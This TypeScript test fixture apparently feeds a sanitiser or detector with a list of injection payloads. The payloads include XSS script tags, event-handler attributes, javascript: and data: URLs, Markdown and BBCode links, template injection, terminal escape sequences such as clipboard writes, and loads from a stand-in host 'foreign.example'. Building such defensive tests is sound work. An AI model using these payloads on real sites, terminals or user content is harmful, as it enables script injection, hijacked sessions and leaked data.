/** A host that no page of gal may ever ask for anything. */
const foreign = 'http://foreign.example'

/**
 * Words that would be more than words. Where one runs, it sets `__pwned`, opens a dialog, or asks `foreign` for something.
 * `bites`: it does so by being put into a page as it is, without any click; the test of the detector asks for each of them.
 */
type Payload = { name: string; text: string; bites?: true }

const esc = String.fromCharCode(27)
const bell = String.fromCharCode(7)

export const payloads: readonly Payload[] = [
  { name: 'a script', text: '<script>__pwned=1</script>', bites: true },
  { name: 'a script after an attribute', text: '"><script>__pwned=1</script>', bites: true },
  { name: 'a script after other elements', text: '</pre></textarea></title></style><script>__pwned=1</script>', bites: true },
  { name: 'a script of elsewhere', text: `<script src="${foreign}/x.js"></script>`, bites: true },
  { name: 'a dialog', text: '<script>alert(1)</script>', bites: true },
  { name: 'a picture that fails', text: '<img src=x onerror=__pwned=1>', bites: true },
  { name: 'a picture of elsewhere', text: `<img/src="${foreign}/i.png"/onerror=__pwned=1>`, bites: true },
  { name: 'a set of pictures', text: `<img srcset="${foreign}/i.png 1x">`, bites: true },
  { name: 'details that open', text: '<details open ontoggle=__pwned=1>x</details>', bites: true },
  { name: 'a field that takes the focus', text: '<input autofocus onfocus=__pwned=1>', bites: true },
  { name: 'a film without a source', text: '<video><source onerror=__pwned=1></video>', bites: true },
  { name: 'a sound of elsewhere', text: `<audio autoplay src="${foreign}/a.ogg"></audio>`, bites: true },
  { name: 'a style of elsewhere', text: `<style>@import "${foreign}/s.css";</style>`, bites: true },
  { name: 'a background of elsewhere', text: `<div style="background:url(${foreign}/b.png)">x</div>`, bites: true },
  { name: 'a drawing that loads', text: '<svg onload=__pwned=1></svg>', bites: true },
  { name: 'a drawing with a script', text: '<svg><script>__pwned=1</script></svg>', bites: true },
  { name: 'a drawing with a picture', text: `<svg><image href="${foreign}/s.png"/></svg>`, bites: true },
  { name: 'a drawing that moves', text: '<svg><animate onbegin=__pwned=1 attributeName=x dur=1s /></svg>', bites: true },
  { name: 'a frame with an address', text: '<iframe src="javascript:parent.__pwned=1"></iframe>', bites: true },
  { name: 'a frame with a page', text: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>', bites: true },
  { name: 'a frame of elsewhere', text: `<iframe src="${foreign}/f.html"></iframe>`, bites: true },
  { name: 'an object of elsewhere', text: `<object data="${foreign}/o.html"></object>`, bites: true },
  { name: 'something embedded', text: `<embed src="${foreign}/e.html">`, bites: true },
  { name: 'a sheet of elsewhere', text: `<link rel=stylesheet href="${foreign}/l.css">`, bites: true },
  { name: 'a page that goes on', text: `<meta http-equiv=refresh content="0;url=${foreign}/r">`, bites: true },
  { name: 'another base', text: `<base href="${foreign}/">` },
  { name: 'a form', text: `<form action="${foreign}/f"><button>x</button></form>` },
  { name: 'mathematics with a link', text: '<math><mi xlink:href="javascript:__pwned=1">x</mi></math>' },
  { name: 'a link that is a script', text: '<a href="javascript:__pwned=1">x</a>' },
  { name: 'an address that is a script', text: 'javascript:__pwned=1' },
  { name: 'one with a tab in it', text: 'java\tscript:__pwned=1' },
  { name: 'one after a control character', text: '\u0001javascript:__pwned=1' },
  { name: 'an address that is a page', text: 'data:text/html,<script>__pwned=1</script>' },
  { name: 'an address in another language', text: 'vbscript:msgbox(1)' },
  { name: 'an address without a scheme', text: '//foreign.example/x' },
  { name: 'a link of Markdown', text: '[click](javascript:__pwned=1)' },
  { name: 'a link of Markdown with entities', text: '[click](&#106;avascript:__pwned=1)' },
  { name: 'a link of Markdown to a page', text: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'a picture of Markdown', text: `![see](${foreign}/p.png)` },
  { name: 'a picture of Markdown by reference', text: `![see][far]\n\n[far]: ${foreign}/q.png` },
  { name: 'a link of Markdown by reference', text: '[click][near]\n\n[near]: javascript:__pwned=1' },
  { name: 'code that would end', text: '```\n<img src=x onerror=__pwned=1>\n' },
  { name: 'a formula with a link', text: '$\\href{javascript:__pwned=1}{x}$' },
  { name: 'entities', text: '&lt;img src=x onerror=__pwned=1&gt;' },
  { name: 'entities by number', text: '&#60;img src=x onerror=__pwned=1&#62;' },
  { name: 'escapes of JSON', text: '\\u003cimg src=x onerror=__pwned=1\\u003e' },
  { name: 'wide brackets', text: '\uff1cscript\uff1e__pwned=1\uff1c/script\uff1e' },
  { name: 'letters of no width', text: '<scr\u200bipt>__pwned=1</scr\u200bipt>' },
  { name: 'letters from right to left', text: '\u202e<script>__pwned=1</script>\u202c\u2066x\u2069' },
  { name: 'separators of lines', text: 'one\u2028two\u2029three\u0085four' },
  { name: 'half a character', text: '\ud83d' },
  { name: 'colours of a terminal', text: `${esc}[2J${esc}[31mred${esc}[0m` },
  { name: 'a title of a terminal', text: `${esc}]0;pwned${bell}` },
  { name: 'a link of a terminal', text: `${esc}]8;;${foreign}/${esc}\\click${esc}]8;;${esc}\\` },
  { name: 'the clipboard of a terminal', text: `${esc}]52;c;cHduZWQ=${bell}` },
  { name: 'controls of eight bits', text: '\u009b2J\u009d0;pwned\u009c' },
  { name: 'a line that is written over', text: 'good\rbad\b\b\bworse\u007f' },
  { name: 'a link of BBCode', text: '[url=javascript:__pwned=1]x[/url]' },
  { name: 'a picture of BBCode', text: `[img]${foreign}/bb.png[/img]` },
  { name: 'a template', text: `{{constructor.constructor('__pwned=1')()}}` },
  { name: 'a template of JavaScript', text: `\${__pwned=1}` },
  { name: 'the name of a prototype', text: '__proto__' },
]

export const texts: readonly string[] = payloads.map(({ text }) => text)

/** All payloads below one another. The first word keeps what needs one at its beginning from complaining. */
export const all = `Words.\n\n${texts.join('\n\n')}`

/** As many payloads as fit into so many characters, beginning with another one for each `from`. */
export const someOf = (most: number, from = 0): string => {
  let text = 'Words that are long enough.'
  for (let place = 0; place < texts.length; place += 1) {
    const next = `${text}\n\n${texts[(from + place) % texts.length]}`
    if (next.length <= most) text = next
  }
  return text
}

/** Those that fit into so many characters, each by itself. */
export const shortTexts = (most: number): string[] => texts.filter((text) => text.length <= most && text.isWellFormed())
